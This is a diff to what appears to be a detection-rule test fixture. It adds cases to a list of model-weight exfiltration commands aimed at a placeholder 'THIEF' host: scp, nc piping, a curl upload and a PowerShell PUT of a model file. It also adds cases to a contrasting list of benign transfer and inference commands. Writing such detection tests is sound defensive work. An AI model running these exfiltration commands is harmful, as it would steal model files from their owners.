@@ -77,6 +77,8 @@ SENT: Final = AttackStep(
         (process(f"mega-put {_PACKED}", "/usr/bin/mega-put"),),
         (process(f"scp -r /srv/models root@{THIEF}:/tmp", "/usr/bin/scp"),),
         (process(f"bash -c tar czf - /srv/models | nc {THIEF} 9001"),),
+        (process(f"curl -T {_PACKED} http://{THIEF}:8000/", "/usr/bin/curl"),),
+        (process(f"powershell iwr -Method Put -InFile D:\\models\\d.onnx -Uri http://{THIEF}/u", "powershell.exe"),),
     ),
     (
         (process("rsync -a /srv/models/ ada@10.8.0.22:/srv/models/", "/usr/bin/rsync"),),
@@ -85,6 +87,8 @@ SENT: Final = AttackStep(
         (process("rclone listremotes", "/usr/bin/rclone"),),
         (process("curl -F file=@m.json https://models.example.org/v2/models/digits/infer", "/usr/bin/curl"),),
         (process("curl -O https://transfer.sh/get/x", "/usr/bin/curl"),),
+        (process("curl -F file=@m.json http://10.8.0.22:8080/v2/models/digits/infer", "/usr/bin/curl"),),
+        (process(f"curl -O http://{THIEF}/x", "/usr/bin/curl"),),
     ),
 )
 
